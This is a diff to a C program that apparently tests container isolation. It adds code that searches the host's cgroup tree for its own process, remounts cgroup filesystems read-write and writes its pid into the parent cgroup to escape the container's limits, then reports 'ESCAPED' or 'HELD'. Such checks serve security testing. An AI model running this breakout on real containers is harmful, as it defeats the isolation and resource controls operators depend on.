@@ -11,6 +11,7 @@
  *                    container's limits. Prints "ESCAPED TO PATH" when its cgroup changed,
  *                    "HELD" otherwise.
  */
+#include <dirent.h>
 #include <errno.h>
 #include <sched.h>
 #include <stdio.h>
@@ -86,33 +87,77 @@ static int own_file(const char *file, const char *value)
 	return 0;
 }
 
+/* Whether the cgroup.procs of dir lists pid. */
+static int lists(const char *dir, int pid)
+{
+	char path[8192];
+	FILE *f;
+	int p, found = 0;
+
+	snprintf(path, sizeof(path), "%s/cgroup.procs", dir);
+	f = fopen(path, "r");
+	while (f && !found && fscanf(f, "%d", &p) == 1)
+		found = p == pid;
+	if (f)
+		fclose(f);
+	return found;
+}
+
+/* The cgroup under dir (depth first, at most depth levels) whose cgroup.procs lists pid, into
+ * out: a container in a cgroup namespace of its own does not see its path in
+ * /proc/self/cgroup, so it looks for itself in the host's tree. */
+static int find_self(const char *dir, int pid, int depth, char *out, size_t len)
+{
+	DIR *d;
+	struct dirent *e;
+	int found = 0;
+
+	if (lists(dir, pid)) {
+		snprintf(out, len, "%s", dir);
+		return 1;
+	}
+	if (depth == 0 || !(d = opendir(dir)))
+		return 0;
+	while (!found && (e = readdir(d))) {
+		char sub[8192];
+
+		if (e->d_type != DT_DIR || e->d_name[0] == '.')
+			continue;
+		snprintf(sub, sizeof(sub), "%s/%s", dir, e->d_name);
+		found = find_self(sub, pid, depth - 1, out, len);
+	}
+	closedir(d);
+	return found;
+}
+
 static int escape(void)
 {
-	char own[4096], dir[8192], pid[32];
 	const char *mnts[] = {"/sys/fs/cgroup/unified", "/sys/fs/cgroup"};
-	char after[4096];
+	char own[8192], after[8192], before[4096], pid[32];
 	FILE *f;
 
-	own_cgroup(own, sizeof(own));
+	own_cgroup(before, sizeof(before));
 	snprintf(pid, sizeof(pid), "%d", (int)getpid());
 	for (size_t i = 0; i < sizeof(mnts) / sizeof(mnts[0]); i++) {
 		char *slash;
 
 		mount(NULL, mnts[i], NULL, MS_REMOUNT | MS_BIND, NULL); /* read-write again */
-		snprintf(dir, sizeof(dir), "%s%s", mnts[i], own);
-		slash = strrchr(dir, '/');
-		if (!slash)
+		if (!find_self(mnts[i], (int)getpid(), 12, own, sizeof(own)))
 			continue;
-		snprintf(slash, sizeof(dir) - (size_t)(slash - dir), "/cgroup.procs");
-		/* dir is now the parent's cgroup.procs: "../cgroup.procs" of our own */
-		f = fopen(dir, "w");
+		printf("FOUND %s\n", own);
+		slash = strrchr(own, '/');
+		if (!slash || slash == own)
+			continue;
+		/* the parent's cgroup.procs: out of the container's cgroup */
+		snprintf(slash, sizeof(own) - (size_t)(slash - own), "/cgroup.procs");
+		f = fopen(own, "w");
 		if (f) {
 			fputs(pid, f);
 			fclose(f);
 		}
 	}
 	own_cgroup(after, sizeof(after));
-	if (strcmp(own, after))
+	if (strcmp(before, after))
 		printf("ESCAPED TO %s\n", after);
 	else
 		printf("HELD\n");
